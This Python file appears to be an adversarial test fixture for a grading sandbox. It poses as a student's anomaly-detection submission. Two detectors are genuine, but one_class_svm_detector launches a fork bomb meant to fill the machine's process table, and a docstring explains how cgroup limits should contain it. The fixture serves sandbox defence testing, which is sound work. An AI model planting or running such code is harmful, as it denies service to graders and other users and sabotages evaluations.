"""Attack: a fork bomb, to starve the grading machine of processes.

In one_class_svm_detector it starts a small Python process (its command line
carries the token EVILZOO-fork) that forks until the kernel refuses; every
child sleeps, holding its slot. Unlimited, this fills the machine's process
table, and the grader and every other student's worker could no longer start
a process. (It is the last detector the checks call: once every slot is
held, nothing in the worker can start a thread, and a later check would fail
on that rather than on the bomb.)

Expected: the worker's cgroup caps its tasks (pids.max), so fork soon fails
with EAGAIN; the call raises ("fork refused"), so that check errs with kind
`raised`; the run goes on, and when the worker is closed its cgroup and pid
namespace end every child: nothing with the token is left after the session.
"""
import os
import subprocess
import sys

import numpy as np

BOMB = r"""
import os, sys, time
n = 0
while True:
    try:
        pid = os.fork()
    except OSError as exc:
        print(n, exc.strerror, flush=True)
        break
    if pid == 0:
        time.sleep(600)
        os._exit(0)
    n += 1
time.sleep(600)
"""


def _bomb():
    if os.getpid() != 1:  # never outside a sandbox: there nothing would cap it
        raise RuntimeError("EVILZOO fork_bomb: not in a sandbox (pid != 1); refusing to attack this machine")
    bomb = subprocess.Popen([sys.executable, "-S", "-c", BOMB, "EVILZOO-fork"], stdout=subprocess.PIPE, text=True)
    forked, why = bomb.stdout.readline().split(" ", 1)
    raise BlockingIOError(f"EVILZOO fork_bomb: fork refused ({why.strip()}) after {forked} processes")


def _residual(series, period):
    series = np.asarray(series, dtype=float)
    phase = np.arange(len(series)) % period
    profile = np.array([np.median(series[phase == p]) for p in range(period)])
    return series - profile[phase]


def zscore_detector(series, period):
    r = _residual(series, period)
    spread = np.median(np.abs(r - np.median(r))) * 1.4826
    if spread == 0:
        return np.zeros(len(r), dtype=bool)
    return np.abs(r - np.median(r)) / spread > 4


def isolation_forest_detector(series, period, seed):
    from sklearn.ensemble import IsolationForest

    r = _residual(series, period).reshape(-1, 1)
    return IsolationForest(contamination=0.05, random_state=seed).fit_predict(r) == -1


def one_class_svm_detector(series, period, seed):
    _bomb()
